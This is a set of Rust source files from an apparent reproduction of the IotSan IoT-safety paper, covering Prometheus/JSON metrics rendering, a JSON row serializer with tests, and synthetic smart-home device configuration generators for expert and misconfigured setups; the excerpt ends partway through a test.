                    let mut cumulative = 0u64;
                    for (i, bound) in bounds.iter().enumerate() {
                        cumulative += counts.get(i).copied().unwrap_or(0);
                        let _ =
                            writeln!(out, "{}_bucket{{le=\"{}\"}} {}", d.name, bound, cumulative);
                    }
                    cumulative += counts.get(bounds.len()).copied().unwrap_or(0);
                    let _ = writeln!(out, "{}_bucket{{le=\"+Inf\"}} {}", d.name, cumulative);
                    let _ = writeln!(out, "{}_sum {}", d.name, sum);
                    let _ = writeln!(out, "{}_count {}", d.name, cumulative);
                }
            }
        }
        out
    }

    /// Appends every metric as a field of `row` (histograms as nested
    /// objects with `sum`, `count` and per-bound cumulative `buckets`).
    pub fn append_fields(&self, mut row: JsonRow) -> JsonRow {
        use std::fmt::Write as _;
        for sample in &self.samples {
            let name = sample.descriptor.name;
            row = match &sample.value {
                Value::Counter(v) => row.num_u(name, *v),
                Value::Gauge(v) => row.num_i(name, *v),
                Value::Float(v) => row.num_f(name, *v),
                Value::Histogram { bounds, counts, sum } => {
                    let mut buckets = String::from("[");
                    let mut cumulative = 0u64;
                    for (i, bound) in bounds.iter().enumerate() {
                        cumulative += counts.get(i).copied().unwrap_or(0);
                        if i > 0 {
                            buckets.push(',');
                        }
                        let _ = write!(buckets, "[{},{}]", bound, cumulative);
                    }
                    cumulative += counts.get(bounds.len()).copied().unwrap_or(0);
                    if !bounds.is_empty() {
                        buckets.push(',');
                    }
                    let _ = write!(buckets, "[null,{}]]", cumulative);
                    let inner = JsonRow::new()
                        .num_u("sum", *sum)
                        .num_u("count", cumulative)
                        .raw("buckets", &buckets)
                        .finish();
                    row.raw(name, &inner)
                }
            };
        }
        row
    }

    /// Renders the snapshot as one flat JSON object row.
    pub fn render_json(&self) -> String {
        self.append_fields(JsonRow::new()).finish()
    }
}

#[cfg(all(test, feature = "on"))]
mod tests {
    use super::*;
    use std::sync::{Mutex, MutexGuard};

    /// The runtime kill-switch is process-wide, so every test that records
    /// serializes on this lock (the kill-switch test would otherwise race
    /// recording tests running on sibling threads).
    fn recording_lock() -> MutexGuard<'static, ()> {
        static LOCK: Mutex<()> = Mutex::new(());
        match LOCK.lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    #[test]
    fn counters_and_gauges_record() {
        let _serial = recording_lock();
        let m = Metrics::new();
        m.checker_searches.inc();
        m.checker_states.add(41);
        m.checker_states.inc();
        m.daemon_queue_depth.set(3);
        m.daemon_queue_depth.add(2);
        m.daemon_queue_depth.sub(4);
        m.checker_frontier_peak.max(7);
        m.checker_frontier_peak.max(5);
        m.checker_last_states_per_sec.set(1234.5);
        assert_eq!(m.checker_searches.get(), 1);
        assert_eq!(m.checker_states.get(), 42);
        assert_eq!(m.daemon_queue_depth.get(), 1);
        assert_eq!(m.checker_frontier_peak.get(), 7);
        assert_eq!(m.checker_last_states_per_sec.get(), 1234.5);
    }

    #[test]
    fn float_gauge_rejects_non_finite() {
        let _serial = recording_lock();
        let m = Metrics::new();
        m.checker_last_states_per_sec.set(f64::INFINITY);
        assert_eq!(m.checker_last_states_per_sec.get(), 0.0);
        m.checker_last_states_per_sec.set(f64::NAN);
        assert_eq!(m.checker_last_states_per_sec.get(), 0.0);
    }

    #[test]
    fn histogram_buckets_observe_inclusively() {
        let _serial = recording_lock();
        let m = Metrics::new();
        for size in [1, 1, 2, 3, 8, 9, 1000] {
            m.planner_group_size.observe(size);
        }
        // Bounds 1,2,4,8,16,32,64 (inclusive le): 1→b0 ×2, 2→b1, 3→b2,
        // 8→b3, 9→b4, 1000→overflow.
        let counts = m.planner_group_size.bucket_counts();
        assert_eq!(counts, vec![2, 1, 1, 1, 1, 0, 0, 1]);
        assert_eq!(m.planner_group_size.count(), 7);
        assert_eq!(m.planner_group_size.sum(), 1 + 1 + 2 + 3 + 8 + 9 + 1000);
    }

    #[test]
    fn kill_switch_stops_recording() {
        let _serial = recording_lock();
        let m = Metrics::new();
        set_enabled(false);
        m.cache_hits.inc();
        m.daemon_queue_depth.set(9);
        m.planner_group_size.observe(2);
        set_enabled(true);
        assert_eq!(m.cache_hits.get(), 0);
        assert_eq!(m.daemon_queue_depth.get(), 0);
        assert_eq!(m.planner_group_size.count(), 0);
        m.cache_hits.inc();
        assert_eq!(m.cache_hits.get(), 1);
    }

    #[test]
    fn descriptors_cover_all_families_with_unique_names() {
        let names: Vec<&str> = DESCRIPTORS.iter().map(|d| d.name).collect();
        for family in ["iotsan_checker_", "iotsan_cache_", "iotsan_store_", "iotsan_daemon_"] {
            assert!(names.iter().any(|n| n.starts_with(family)), "missing family {family}");
        }
        let mut deduped = names.clone();
        deduped.sort_unstable();
        deduped.dedup();
        assert_eq!(deduped.len(), names.len(), "duplicate metric names");
        // Prometheus conventions: counters end in _total, nothing else does.
        for d in DESCRIPTORS {
            match d.kind {
                Kind::Counter => assert!(d.name.ends_with("_total"), "{}", d.name),
                _ => assert!(!d.name.ends_with("_total"), "{}", d.name),
            }
        }
    }

    #[test]
    fn snapshot_golden_prometheus_and_json() {
        let _serial = recording_lock();
        let m = Metrics::new();
        m.checker_searches.inc();
        m.checker_last_states_per_sec.set(1500.5);
        m.planner_group_size.observe(1);
        m.planner_group_size.observe(3);
        m.planner_group_size.observe(99);
        let snap = m.capture();

        let prom = snap.render_prometheus();
        assert!(prom.contains("# TYPE iotsan_checker_searches_total counter\n"));
        assert!(prom.contains("\niotsan_checker_searches_total 1\n"));
        assert!(prom.contains("\niotsan_checker_last_states_per_sec 1500.5\n"));
        assert!(prom.contains("# TYPE iotsan_planner_group_size histogram\n"));
        // Cumulative le buckets: le=1 →1, le=2 →1, le=4 →2 … le=+Inf →3.
        assert!(prom.contains("iotsan_planner_group_size_bucket{le=\"1\"} 1\n"));
        assert!(prom.contains("iotsan_planner_group_size_bucket{le=\"4\"} 2\n"));
        assert!(prom.contains("iotsan_planner_group_size_bucket{le=\"+Inf\"} 3\n"));
        assert!(prom.contains("iotsan_planner_group_size_sum 103\n"));
        assert!(prom.contains("iotsan_planner_group_size_count 3\n"));

        let json = snap.render_json();
        assert!(json.contains("\"iotsan_checker_searches_total\":1"));
        assert!(json.contains("\"iotsan_checker_last_states_per_sec\":1500.5"));
        assert!(json.contains(
            "\"iotsan_planner_group_size\":{\"sum\":103,\"count\":3,\"buckets\":[[1,1],[2,1],[4,2],[8,2],[16,2],[32,2],[64,2],[null,3]]}"
        ));
        assert_eq!(snap.counter("iotsan_checker_searches_total"), 1);
    }

    #[test]
    fn snapshot_value_lookup() {
        let _serial = recording_lock();
        let m = Metrics::new();
        m.store_appends.add(5);
        let snap = m.capture();
        assert_eq!(snap.value("iotsan_store_appends_total"), Some(&Value::Counter(5)));
        assert_eq!(snap.value("no_such_metric"), None);
        assert_eq!(snap.counter("no_such_metric"), 0);
    }
}
