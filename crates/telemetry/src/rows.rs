//! The shared JSON row serializer: one ordered-object writer used by the
//! daemon's NDJSON job outcomes, the `repro` harness's `BENCH_*.json` rows
//! and the metrics snapshot renderer, so the three surfaces can never
//! drift in escaping or number formatting.
//!
//! The writer is deliberately tiny: it renders exactly one JSON object,
//! field by field, in insertion order, with no intermediate value tree.
//! Callers that need nested structure render the inner value first (with
//! another [`JsonRow`] or [`JsonRow::raw`]) and embed it.

use std::fmt::Write as _;

/// An ordered JSON object under construction.
///
/// ```
/// use iotsan_telemetry::rows::JsonRow;
/// let row = JsonRow::new()
///     .str("id", "job-1")
///     .num_u("groups", 3)
///     .flag("truncated", false)
///     .fixed("elapsed_ms", 12.3456, 3)
///     .finish();
/// assert_eq!(row, r#"{"id":"job-1","groups":3,"truncated":false,"elapsed_ms":12.346}"#);
/// ```
#[derive(Debug, Clone)]
pub struct JsonRow {
    buf: String,
}

impl Default for JsonRow {
    fn default() -> Self {
        JsonRow::new()
    }
}

impl JsonRow {
    /// Starts an empty object (`{`).
    pub fn new() -> Self {
        JsonRow { buf: String::from("{") }
    }

    /// Starts an object with preallocated capacity.
    pub fn with_capacity(capacity: usize) -> Self {
        let mut buf = String::with_capacity(capacity.max(2));
        buf.push('{');
        JsonRow { buf }
    }

    fn key(&mut self, key: &str) {
        if self.buf.len() > 1 {
            self.buf.push(',');
        }
        self.buf.push('"');
        escape_into(&mut self.buf, key);
        self.buf.push_str("\":");
    }

    /// Appends a string field (escaped).
    pub fn str(mut self, key: &str, value: &str) -> Self {
        self.key(key);
        self.buf.push('"');
        escape_into(&mut self.buf, value);
        self.buf.push('"');
        self
    }

    /// Appends an unsigned integer field.
    pub fn num_u(mut self, key: &str, value: u64) -> Self {
        self.key(key);
        let _ = write!(self.buf, "{value}");
        self
    }

    /// Appends a signed integer field.
    pub fn num_i(mut self, key: &str, value: i64) -> Self {
        self.key(key);
        let _ = write!(self.buf, "{value}");
        self
    }

    /// Appends a floating-point field rendered with `Display` precision.
    ///
    /// Non-finite values (which JSON cannot represent) render as `0` — see
    /// [`finite`].
    pub fn num_f(mut self, key: &str, value: f64) -> Self {
        self.key(key);
        let _ = write!(self.buf, "{}", finite(value));
        self
    }

    /// Appends a floating-point field rendered with a fixed number of
    /// decimals (`{:.decimals$}`), guarding non-finite values like
    /// [`JsonRow::num_f`].
    pub fn fixed(mut self, key: &str, value: f64, decimals: usize) -> Self {
        self.key(key);
        let _ = write!(self.buf, "{:.*}", decimals, finite(value));
        self
    }

    /// Appends a boolean field.
    pub fn flag(mut self, key: &str, value: bool) -> Self {
        self.key(key);
        self.buf.push_str(if value { "true" } else { "false" });
        self
    }

    /// Appends a pre-rendered JSON value verbatim (the caller guarantees it
    /// is valid JSON — typically another [`JsonRow::finish`] result or a
    /// rendered array).
    pub fn raw(mut self, key: &str, value: &str) -> Self {
        self.key(key);
        self.buf.push_str(value);
        self
    }

    /// Appends an array-of-strings field (each element escaped).
    pub fn strs<I, S>(mut self, key: &str, values: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.key(key);
        self.buf.push('[');
        for (i, v) in values.into_iter().enumerate() {
            if i > 0 {
                self.buf.push(',');
            }
            self.buf.push('"');
            escape_into(&mut self.buf, v.as_ref());
            self.buf.push('"');
        }
        self.buf.push(']');
        self
    }

    /// Closes the object and returns the rendered row.
    pub fn finish(mut self) -> String {
        self.buf.push('}');
        self.buf
    }
}

/// Maps non-finite floats (which JSON cannot carry) to `0.0`, leaving every
/// finite value untouched.  The checker already guards its `states_per_sec`
/// computation; this is the belt-and-braces layer that keeps `inf`/NaN out
/// of every rendered row regardless of the caller.
pub fn finite(value: f64) -> f64 {
    if value.is_finite() {
        value
    } else {
        0.0
    }
}

/// Appends `s` to `out` with JSON string escaping (`"`, `\`, the common
/// whitespace escapes, and `\u00XX` for remaining control characters).
pub fn escape_into(out: &mut String, s: &str) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
}

/// Returns `s` with JSON string escaping applied (no surrounding quotes).
pub fn escaped(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    escape_into(&mut out, s);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_row_is_an_empty_object() {
        assert_eq!(JsonRow::new().finish(), "{}");
    }

    #[test]
    fn fields_render_in_insertion_order() {
        let row = JsonRow::new().num_u("b", 2).num_u("a", 1).finish();
        assert_eq!(row, r#"{"b":2,"a":1}"#);
    }

    #[test]
    fn strings_are_escaped() {
        let row = JsonRow::new().str("msg", "a\"b\\c\nd\te\u{1}").finish();
        assert_eq!(row, "{\"msg\":\"a\\\"b\\\\c\\nd\\te\\u0001\"}");
    }

    #[test]
    fn non_finite_floats_render_as_zero() {
        let row = JsonRow::new()
            .num_f("inf", f64::INFINITY)
            .num_f("ninf", f64::NEG_INFINITY)
            .num_f("nan", f64::NAN)
            .fixed("fnan", f64::NAN, 2)
            .finish();
        assert_eq!(row, r#"{"inf":0,"ninf":0,"nan":0,"fnan":0.00}"#);
    }

    #[test]
    fn fixed_controls_decimals() {
        let row = JsonRow::new().fixed("v", 1.0 / 3.0, 3).finish();
        assert_eq!(row, r#"{"v":0.333}"#);
    }

    #[test]
    fn raw_and_arrays_embed_verbatim() {
        let inner = JsonRow::new().num_u("n", 1).finish();
        let row = JsonRow::new()
            .raw("inner", &inner)
            .strs("tags", ["x", "y\"z"])
            .flag("ok", true)
            .finish();
        assert_eq!(row, r#"{"inner":{"n":1},"tags":["x","y\"z"],"ok":true}"#);
    }

    #[test]
    fn rendered_rows_parse_as_json() {
        // Smoke-parse with a tiny recursive descent: balanced braces and
        // quote pairing are the failure modes hand-rendering invites.
        let row = JsonRow::new()
            .str("s", "line\nbreak \"quoted\" back\\slash")
            .num_i("neg", -42)
            .num_f("f", 2.5)
            .strs("a", ["p", "q"])
            .finish();
        assert!(row.starts_with('{') && row.ends_with('}'));
        let quotes = row.chars().filter(|&c| c == '"').count();
        assert_eq!(quotes % 2, 0);
    }
}
