//! Property tests for histogram bucket boundaries: every observation lands
//! in exactly one bucket, bucket choice respects the inclusive (`le`)
//! bound semantics, and the cumulative renders agree with the raw counts.

#![cfg(feature = "on")]

use iotsan_telemetry::metrics::{Metrics, Value, GROUP_SIZE_BOUNDS};
use proptest::prelude::*;

/// Reference bucketing: index of the first bound `v <= bound`, or the
/// overflow slot.
fn expected_slot(v: u64) -> usize {
    GROUP_SIZE_BOUNDS.iter().position(|&b| v <= b).unwrap_or(GROUP_SIZE_BOUNDS.len())
}

proptest! {
    #[test]
    fn every_observation_lands_in_exactly_one_bucket(values in collection::vec(0u64..200, 1..40)) {
        let m = Metrics::new();
        let mut expected = vec![0u64; GROUP_SIZE_BOUNDS.len() + 1];
        let mut sum = 0u64;
        for &v in &values {
            m.planner_group_size.observe(v);
            expected[expected_slot(v)] += 1;
            sum += v;
        }
        prop_assert_eq!(m.planner_group_size.bucket_counts(), expected);
        prop_assert_eq!(m.planner_group_size.count(), values.len() as u64);
        prop_assert_eq!(m.planner_group_size.sum(), sum);
    }

    #[test]
    fn boundary_values_are_inclusive(bound_index in 0usize..7) {
        let m = Metrics::new();
        let bound = GROUP_SIZE_BOUNDS[bound_index];
        m.planner_group_size.observe(bound); // exactly on the bound: this bucket
        m.planner_group_size.observe(bound + 1); // one past: the next bucket
        let counts = m.planner_group_size.bucket_counts();
        prop_assert_eq!(counts[bound_index], 1);
        let next = expected_slot(bound + 1);
        prop_assert!(next > bound_index);
        prop_assert_eq!(counts[next], 1);
    }

    #[test]
    fn snapshot_buckets_are_cumulative_and_end_at_count(values in collection::vec(0u64..500, 0..30)) {
        let m = Metrics::new();
        for &v in &values {
            m.planner_group_size.observe(v);
        }
        let snap = m.capture();
        match snap.value("iotsan_planner_group_size") {
            Some(Value::Histogram { bounds, counts, .. }) => {
                prop_assert_eq!(*bounds, GROUP_SIZE_BOUNDS);
                // Non-cumulative counts sum to the observation count; the
                // rendered cumulative +Inf bucket therefore equals it too.
                let total: u64 = counts.iter().sum();
                prop_assert_eq!(total, values.len() as u64);
            }
            other => prop_assert!(false, "unexpected value {:?}", other),
        }
        let prom = snap.render_prometheus();
        let inf_line = prom
            .lines()
            .find(|l| l.starts_with("iotsan_planner_group_size_bucket{le=\"+Inf\"}"))
            .expect("+Inf bucket rendered");
        let rendered: u64 = inf_line.rsplit(' ').next().unwrap().parse().unwrap();
        prop_assert_eq!(rendered, values.len() as u64);
    }
}
