//! Concurrent-increment stress: the registry's primitives are shared by the
//! parallel checker's workers and the daemon's worker pool, so contended
//! updates must never be lost or double-counted.  The statics mirror how the
//! global registry embeds each primitive.

use iotsan_telemetry::{Counter, Gauge, Histogram};

const THREADS: u64 = 8;
const PER_THREAD: u64 = 50_000;

static COUNTER: Counter = Counter::new();
static TOTAL: Gauge = Gauge::new();
static PEAK: Gauge = Gauge::new();
static HIST: Histogram = Histogram::new(&[1, 2, 4, 8, 16, 32, 64]);

#[test]
fn contended_updates_all_land() {
    std::thread::scope(|s| {
        for t in 0..THREADS {
            s.spawn(move || {
                for i in 0..PER_THREAD {
                    COUNTER.inc();
                    TOTAL.add(1);
                    PEAK.max((t + 1) as i64);
                    HIST.observe(i % 100);
                }
            });
        }
    });

    let updates = THREADS * PER_THREAD;
    assert_eq!(COUNTER.get(), updates);
    assert_eq!(TOTAL.get(), updates as i64);
    assert_eq!(PEAK.get(), THREADS as i64);
    assert_eq!(HIST.count(), updates);
    let per_thread_sum: u64 = (0..PER_THREAD).map(|i| i % 100).sum();
    assert_eq!(HIST.sum(), THREADS * per_thread_sum);
    assert_eq!(HIST.bucket_counts().iter().sum::<u64>(), updates);
}
