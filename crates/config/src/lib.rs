//! # iotsan-config
//!
//! The Configuration Extractor of IotSan-rs (the Rust reproduction of
//! *IotSan: Fortifying the Safety of IoT Systems*, CoNEXT 2018, §7).
//!
//! The paper crawls the SmartThings management web app to obtain installed
//! devices, installed apps, per-app input bindings and the user-supplied
//! *device association* info ("this outlet controls the AC").  This crate
//! models that information as a serde-serializable [`SystemConfig`] and, since
//! no SmartThings cloud account is available offline, generates it
//! synthetically through the [`portal`] module:
//!
//! * [`portal::standard_household`] — the evaluation deployment (§10.1);
//! * [`portal::expert_configure`] — the authors' common-sense configurations;
//! * [`portal::misconfigure`] — seeded volunteer-style misconfigurations
//!   reproducing the §2.2 error modes;
//! * [`portal::enumerate_app_configs`] — per-app configuration enumeration
//!   for the Output Analyzer's attribution phases (§9).
//!
//! ```
//! use iotsan_config::{SystemConfig, DeviceConfig, AppConfig, Binding};
//!
//! let cfg = SystemConfig::new()
//!     .with_device(DeviceConfig::new("frontDoorLock", "lock", "main door lock"))
//!     .with_app(AppConfig::new("Unlock Door").with("lock1", Binding::Devices(vec!["frontDoorLock".into()])));
//! let json = cfg.to_json();
//! assert_eq!(SystemConfig::from_json(&json).unwrap(), cfg);
//! ```

#![warn(missing_docs)]

pub mod model;
pub mod portal;

pub use model::{AppConfig, Binding, DeviceConfig, SystemConfig};
pub use portal::{enumerate_app_configs, expert_configure, misconfigure, standard_household};
