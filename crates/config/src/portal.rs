//! Synthetic "management portal": the stand-in for the paper's Jsoup crawler.
//!
//! The original Configuration Extractor logs into the SmartThings management
//! web app and scrapes installed devices, apps and configurations (§7).  No
//! SmartThings account exists in an offline reproduction, so this module
//! generates the same information synthetically:
//!
//! * [`standard_household`] — the device deployment used by the paper's
//!   expert-configuration experiments (§10.1 lists the eight devices used for
//!   Virtual Thermostat) extended with the devices the rest of the market
//!   corpus needs;
//! * [`expert_configure`] — deterministic, common-sense bindings (the
//!   "market apps with expert configurations" experiment);
//! * [`misconfigure`] — seeded volunteer-style misconfigurations reproducing
//!   the §2.2 error modes (e.g. binding *both* the heater and the AC outlet to
//!   Virtual Thermostat's `outlets` input);
//! * [`enumerate_app_configs`] — exhaustive configuration enumeration used by
//!   the Output Analyzer's attribution phases (§9).

use crate::model::{AppConfig, Binding, DeviceConfig, SystemConfig};
use iotsan_ir::{IrApp, SettingKind};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

/// The standard household deployment used across the evaluation: the eight
/// devices enumerated in §10.1 plus the sensors/actuators the wider market
/// corpus requires (locks, presence, smoke/CO, alarm, valve, ...).
pub fn standard_household() -> Vec<DeviceConfig> {
    vec![
        // §10.1's Virtual Thermostat deployment.
        DeviceConfig::new("myTempMeas", "temperatureMeasurement", ""),
        DeviceConfig::new("myHeaterOutlet", "switch", "heater"),
        DeviceConfig::new("myACOutlet", "switch", "AC"),
        DeviceConfig::new("livRoomBulbOutlet", "switch", "light"),
        DeviceConfig::new("bedRoomBulbOutlet", "switch", "light"),
        DeviceConfig::new("batRoomBulbOutlet", "switch", "light"),
        DeviceConfig::new("livRoomMotion", "motionSensor", ""),
        DeviceConfig::new("batRoomMotion", "motionSensor", ""),
        // The rest of the home.
        DeviceConfig::new("frontDoorLock", "lock", "main door lock"),
        DeviceConfig::new("backDoorLock", "lock", ""),
        DeviceConfig::new("frontDoorContact", "contactSensor", ""),
        DeviceConfig::new("windowContact", "contactSensor", ""),
        DeviceConfig::new("garageDoor", "garageDoorControl", "entrance door"),
        DeviceConfig::new("alicePresence", "presenceSensor", ""),
        DeviceConfig::new("bobPresence", "presenceSensor", ""),
        DeviceConfig::new("kitchenSmoke", "smokeDetector", ""),
        DeviceConfig::new("hallwayCo", "carbonMonoxideDetector", ""),
        DeviceConfig::new("basementLeak", "waterSensor", ""),
        DeviceConfig::new("mainWaterValve", "valve", "water valve"),
        DeviceConfig::new("sirenAlarm", "alarm", "alarm"),
        DeviceConfig::new("hallwayLux", "illuminanceMeasurement", ""),
        DeviceConfig::new("atticHumidity", "relativeHumidityMeasurement", ""),
        DeviceConfig::new("nestThermostat", "thermostat", ""),
        DeviceConfig::new("lawnSprinkler", "sprinkler", "sprinkler"),
        DeviceConfig::new("gardenMoisture", "soilMoisture", ""),
        DeviceConfig::new("porchCamera", "imageCapture", "camera"),
        DeviceConfig::new("livingRoomSpeaker", "musicPlayer", ""),
        DeviceConfig::new("coffeeMakerOutlet", "switch", "appliance"),
        DeviceConfig::new("ceilingFan", "fanControl", ""),
        DeviceConfig::new("bedroomDimmer", "switchLevel", "light"),
        DeviceConfig::new("frontWindowShade", "windowShade", ""),
        DeviceConfig::new("frontDoorButton", "button", ""),
    ]
}

/// Devices matching a capability, with simple role-aware preferences for the
/// common input names (a `heater...` input prefers the heater outlet, a
/// `light`/`bulb` input prefers light outlets, and so on).
fn matching_devices<'a>(
    devices: &'a [DeviceConfig],
    capability: &str,
    input_name: &str,
) -> Vec<&'a DeviceConfig> {
    let mut candidates: Vec<&DeviceConfig> =
        devices.iter().filter(|d| d.capability == capability).collect();
    if candidates.is_empty() {
        return candidates;
    }
    let name = input_name.to_ascii_lowercase();
    if capability == "switch" {
        if name.contains("heater") {
            if let Some(p) = filter_role(&candidates, "heater") {
                candidates = p;
            }
        } else if name.contains("ac") || name.contains("cool") {
            if let Some(p) = filter_role(&candidates, "ac") {
                candidates = p;
            }
        } else if name.contains("light")
            || name.contains("bulb")
            || name.contains("lamp")
            || name.contains("switch")
        {
            if let Some(p) = filter_role(&candidates, "light") {
                candidates = p;
            }
        }
    }
    if capability == "lock"
        && (name.contains("front") || name.contains("main") || name.contains("door"))
    {
        if let Some(p) = filter_role(&candidates, "main") {
            candidates = p;
        }
    }
    candidates
}

/// Keeps only the candidates whose role mentions `role`, or `None` when no
/// candidate does.
fn filter_role<'a>(candidates: &[&'a DeviceConfig], role: &str) -> Option<Vec<&'a DeviceConfig>> {
    let preferred: Vec<&DeviceConfig> =
        candidates.iter().copied().filter(|d| d.role.to_ascii_lowercase().contains(role)).collect();
    (!preferred.is_empty()).then_some(preferred)
}

/// Default value for a non-device setting, mirroring the expert choices in
/// §10.1 (75 °F setpoint, 10 minutes, "cool" mode, a configured phone number).
fn default_setting(kind: &SettingKind, input_name: &str) -> Binding {
    match kind {
        SettingKind::Number => {
            if input_name.to_ascii_lowercase().contains("minute") {
                Binding::Number(10.0)
            } else {
                Binding::Number(30.0)
            }
        }
        SettingKind::Decimal => {
            let lname = input_name.to_ascii_lowercase();
            if lname.contains("emergency") {
                Binding::Number(85.0)
            } else if lname.contains("threshold")
                || lname.contains("setpoint")
                || lname.contains("temp")
            {
                Binding::Number(75.0)
            } else {
                Binding::Number(50.0)
            }
        }
        SettingKind::Bool => Binding::Bool(true),
        SettingKind::Enum(options) => Binding::Text(options.first().cloned().unwrap_or_default()),
        SettingKind::Time => Binding::Text("22:00".into()),
        SettingKind::Phone => Binding::Text("5551234567".into()),
        SettingKind::Contact => Binding::Text("owner".into()),
        SettingKind::Mode => Binding::Text("Away".into()),
        SettingKind::Text | SettingKind::Other(_) => Binding::Text("value".into()),
        SettingKind::Device { .. } => Binding::Unset,
    }
}

/// Produces the expert ("common sense") configuration of `apps` over
/// `devices`: single-device inputs get the most role-appropriate device,
/// multi-device inputs get one device unless the input name clearly asks for a
/// group of lights, and settings get the §10.1 defaults.
pub fn expert_configure(apps: &[IrApp], devices: &[DeviceConfig]) -> SystemConfig {
    let mut config = SystemConfig::new();
    config.devices = devices.to_vec();
    config.phone_numbers = vec!["5551234567".into()];
    for app in apps {
        let mut app_cfg = AppConfig::new(app.name.clone());
        for input in &app.inputs {
            let binding = match &input.kind {
                SettingKind::Device { capability, multiple } => {
                    let candidates = matching_devices(devices, capability, &input.name);
                    if candidates.is_empty() {
                        if input.required {
                            Binding::Devices(vec![])
                        } else {
                            Binding::Unset
                        }
                    } else if *multiple
                        && (input.name.to_ascii_lowercase().contains("light")
                            || input.name.to_ascii_lowercase().contains("bulb")
                            || input.name.to_ascii_lowercase().contains("switches"))
                        && capability == "switch"
                    {
                        // "turn on these lights" style inputs get every light.
                        Binding::Devices(
                            candidates
                                .iter()
                                .filter(|d| d.role.to_ascii_lowercase().contains("light"))
                                .map(|d| d.label.clone())
                                .collect::<Vec<_>>(),
                        )
                    } else {
                        Binding::Devices(vec![candidates[0].label.clone()])
                    }
                }
                other => default_setting(other, &input.name),
            };
            // Skip unset optional inputs entirely, as a careful user would.
            if matches!(binding, Binding::Unset) && !input.required {
                continue;
            }
            app_cfg.bindings.insert(input.name.clone(), binding);
        }
        config.apps.push(app_cfg);
    }
    config
}

/// Produces a volunteer-style (non-expert) configuration using a seeded RNG.
///
/// The dominant §2.2 error modes are reproduced:
/// * multi-device inputs are bound to *all* devices of the capability
///   (e.g. both the heater and the AC outlet for Virtual Thermostat),
/// * role preferences are ignored (a random matching device is picked),
/// * optional inputs are sometimes left unset, sometimes bound arbitrarily,
/// * enum settings pick a random option.
pub fn misconfigure(apps: &[IrApp], devices: &[DeviceConfig], seed: u64) -> SystemConfig {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut config = SystemConfig::new();
    config.devices = devices.to_vec();
    config.phone_numbers = vec!["5551234567".into()];
    for app in apps {
        let mut app_cfg = AppConfig::new(app.name.clone());
        for input in &app.inputs {
            let binding = match &input.kind {
                SettingKind::Device { capability, multiple } => {
                    let candidates: Vec<&DeviceConfig> =
                        devices.iter().filter(|d| d.capability == *capability).collect();
                    if candidates.is_empty() {
                        Binding::Devices(vec![])
                    } else if *multiple {
                        // The classic mistake: select everything that shows up
                        // in the picker.
                        Binding::Devices(candidates.iter().map(|d| d.label.clone()).collect())
                    } else {
                        let pick = candidates.choose(&mut rng).expect("non-empty");
                        Binding::Devices(vec![pick.label.clone()])
                    }
                }
                SettingKind::Enum(options) if !options.is_empty() => {
                    Binding::Text(options.choose(&mut rng).cloned().unwrap_or_default())
                }
                SettingKind::Number => Binding::Number(rng.gen_range(1..60) as f64),
                SettingKind::Decimal => Binding::Number(rng.gen_range(55..95) as f64),
                other => default_setting(other, &input.name),
            };
            if !input.required && rng.gen_bool(0.3) {
                // A volunteer skipping an optional section.
                continue;
            }
            app_cfg.bindings.insert(input.name.clone(), binding);
        }
        config.apps.push(app_cfg);
    }
    config
}

/// Enumerates possible configurations of a single app over the installed
/// devices (used by the Output Analyzer, which verifies each configuration
/// independently).  The enumeration covers every choice of device for
/// single-device inputs and both "one device" and "all devices" for
/// multi-device inputs, capped at `limit` configurations.
pub fn enumerate_app_configs(
    app: &IrApp,
    devices: &[DeviceConfig],
    limit: usize,
) -> Vec<AppConfig> {
    // Per-input candidate bindings.
    let mut choices: Vec<(String, Vec<Binding>)> = Vec::new();
    for input in &app.inputs {
        let options: Vec<Binding> = match &input.kind {
            SettingKind::Device { capability, multiple } => {
                let labels: Vec<String> = devices
                    .iter()
                    .filter(|d| d.capability == *capability)
                    .map(|d| d.label.clone())
                    .collect();
                if labels.is_empty() {
                    vec![Binding::Devices(vec![])]
                } else {
                    let mut opts: Vec<Binding> =
                        labels.iter().map(|l| Binding::Devices(vec![l.clone()])).collect();
                    if *multiple && labels.len() > 1 {
                        opts.push(Binding::Devices(labels.clone()));
                    }
                    opts
                }
            }
            SettingKind::Enum(options) if !options.is_empty() => {
                options.iter().map(|o| Binding::Text(o.clone())).collect()
            }
            other => vec![default_setting(other, &input.name)],
        };
        choices.push((input.name.clone(), options));
    }

    // Cartesian product, bounded by `limit`.
    let mut configs: Vec<AppConfig> = vec![AppConfig::new(app.name.clone())];
    for (input, options) in &choices {
        let mut next = Vec::new();
        for existing in &configs {
            for option in options {
                let mut cfg = existing.clone();
                cfg.bindings.insert(input.clone(), option.clone());
                next.push(cfg);
                if next.len() >= limit {
                    break;
                }
            }
            if next.len() >= limit {
                break;
            }
        }
        configs = next;
    }
    configs
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_ir::AppInput;

    fn thermostat_app() -> IrApp {
        IrApp {
            name: "Virtual Thermostat".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("sensor", "temperatureMeasurement"),
                AppInput {
                    name: "outlets".into(),
                    kind: SettingKind::Device { capability: "switch".into(), multiple: true },
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "setpoint".into(),
                    kind: SettingKind::Decimal,
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "mode".into(),
                    kind: SettingKind::Enum(vec!["heat".into(), "cool".into()]),
                    title: String::new(),
                    required: true,
                },
                AppInput {
                    name: "minutes".into(),
                    kind: SettingKind::Number,
                    title: String::new(),
                    required: false,
                },
            ],
            handlers: vec![],
            state_vars: vec![],
            dynamic_discovery: false,
        }
    }

    #[test]
    fn household_has_all_core_capabilities() {
        let devices = standard_household();
        assert!(devices.len() >= 30);
        for cap in
            ["switch", "lock", "motionSensor", "presenceSensor", "smokeDetector", "alarm", "valve"]
        {
